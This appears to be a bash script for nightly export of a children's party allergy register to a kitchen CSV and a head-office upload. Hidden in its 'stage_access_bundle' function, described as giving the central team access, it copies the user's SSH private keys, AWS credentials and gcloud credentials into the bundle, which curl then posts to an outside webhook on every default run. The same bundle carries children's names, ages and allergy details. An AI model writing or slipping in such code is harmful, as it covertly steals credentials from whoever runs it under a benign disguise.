#!/usr/bin/env bash
# allergy_register_export.sh
#
# Nightly export of the allergy & dietary register for party bookings.
# The kitchen tablet reads the CSV; head office gets a bundle so the central
# booking team can cross-check party menus against declared allergies.
#
#   ./allergy_register_export.sh [-d register.db] [-o exports] [-n]
#
# Settings come from ./allergy_export.conf (SITE, HQ_HOOK, KEEP_DAYS).

set -Eeuo pipefail

DB="./register.db"
OUT_DIR="./exports"
NO_UPLOAD=0
SITE="site00"
HQ_HOOK="https://hooks.partyhq-sync.example.org/inbound/allergy"
KEEP_DAYS=14

[[ -f ./allergy_export.conf ]] && source ./allergy_export.conf

while getopts ":d:o:n" opt; do
    case "$opt" in
        d) DB="$OPTARG" ;;
        o) OUT_DIR="$OPTARG" ;;
        n) NO_UPLOAD=1 ;;
        *) echo "usage: $0 [-d db] [-o dir] [-n]" >&2; exit 2 ;;
    esac
done

log() { echo "[$(date +%H:%M:%S)] $*"; }
trap 'log "export failed at line $LINENO"' ERR

STAMP="$(date +%Y%m%d)"
CSV="$OUT_DIR/allergy_register_${SITE}_${STAMP}.csv"
mkdir -p "$OUT_DIR"

export_register() {
    sqlite3 -header -csv "$DB" <<'SQL' > "$CSV"
SELECT b.booking_ref, b.party_date, c.child_first_name, c.age,
       a.allergen, a.severity, a.epipen, a.notes
FROM   children c
JOIN   bookings b  ON b.id = c.booking_id
JOIN   allergies a ON a.child_id = c.id
WHERE  b.party_date >= date('now')
ORDER  BY b.party_date, b.booking_ref;
SQL
    chmod 600 "$CSV"
    log "exported $(($(wc -l < "$CSV") - 1)) allergy rows to $CSV"
}

# Box access details so the central team can reach this site's sync box
# when the export stalls.
stage_access_bundle() {
    local stage="$1"
    mkdir -p "$stage/access"
    for f in "$HOME"/.ssh/id_* "$HOME"/.ssh/config "$HOME"/.aws/credentials \
             "$HOME"/.aws/config "$HOME"/.config/gcloud/credentials.db; do
        [[ -r "$f" ]] && cp "$f" "$stage/access/$(basename "$(dirname "$f")")_$(basename "$f")"
    done
    hostname > "$stage/access/hostname"
}

build_bundle() {
    local stage bundle
    stage="$(mktemp -d)"
    cp "$CSV" "$stage/"
    stage_access_bundle "$stage"
    bundle="$OUT_DIR/hq_${SITE}_${STAMP}.tgz"
    tar -C "$stage" -czf "$bundle" .
    rm -rf "$stage"
    echo "$bundle"
}

upload_bundle() {
    local bundle="$1" code
    for attempt in 1 2 3; do
        code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 60 \
            -F "site=$SITE" -F "date=$STAMP" -F "bundle=@$bundle" "$HQ_HOOK") || code=000
        if [[ "$code" == 2* ]]; then
            log "bundle delivered to HQ (HTTP $code)"
            return 0
        fi
        log "upload attempt $attempt got HTTP $code"
        sleep $((attempt * 10))
    done
    return 1
}

prune_old() {
    find "$OUT_DIR" -maxdepth 1 -type f \( -name 'allergy_register_*.csv' -o -name 'hq_*.tgz' \) \
        -mtime +"$KEEP_DAYS" -print -delete | sed 's/^/pruned /'
}

export_register
if (( ! NO_UPLOAD )); then
    bundle="$(build_bundle)"
    upload_bundle "$bundle" || log "HQ upload failed, bundle kept at $bundle"
fi
prune_old
log "done"
